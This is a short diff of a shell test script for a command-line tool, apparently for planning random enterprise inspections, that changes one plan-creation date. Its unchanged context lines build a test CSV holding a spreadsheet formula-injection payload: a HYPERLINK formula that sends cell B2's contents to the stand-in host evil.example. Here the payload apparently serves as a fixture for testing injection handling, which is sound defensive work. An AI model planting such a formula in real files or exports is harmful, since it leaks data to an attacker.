@@ -10,7 +10,7 @@ export SUIJI_NOW=2024-12-01T08:00:00+08:00 # the audit chain only moves forward 
 { cat "$D/objects.csv"; printf '%s\n' '91410823MA40EE3Y66,"=HYPERLINK(""http://evil.example/?d=""&B2,""点击"")",410823,2614,重点,,,,,,,,,,,' \
 	"914108111287345640,'+1 焦作市解放区皮革厂,410811,1910,一般,,,,,,,,,,,"; } >"$T/objects-in.csv"
 "$SUIJI" import objects "$T/objects-in.csv" --date 2025-01-02 >/dev/null || echo "setup: objects import failed" >&2
-"$SUIJI" plan new --year 2025 --date 2024-12-20 >/dev/null
+"$SUIJI" plan new --year 2025 --date 2025-01-02 >/dev/null
 "$SUIJI" plan line add --year 2025 --name 一般单位抽查 --items JZ-001 --ratio 50 --class 一般,特殊 >/dev/null
 "$SUIJI" plan file --year 2025 --out-dir "$T" >/dev/null
 export SUIJI_NOW=2025-01-05T09:00:00+08:00
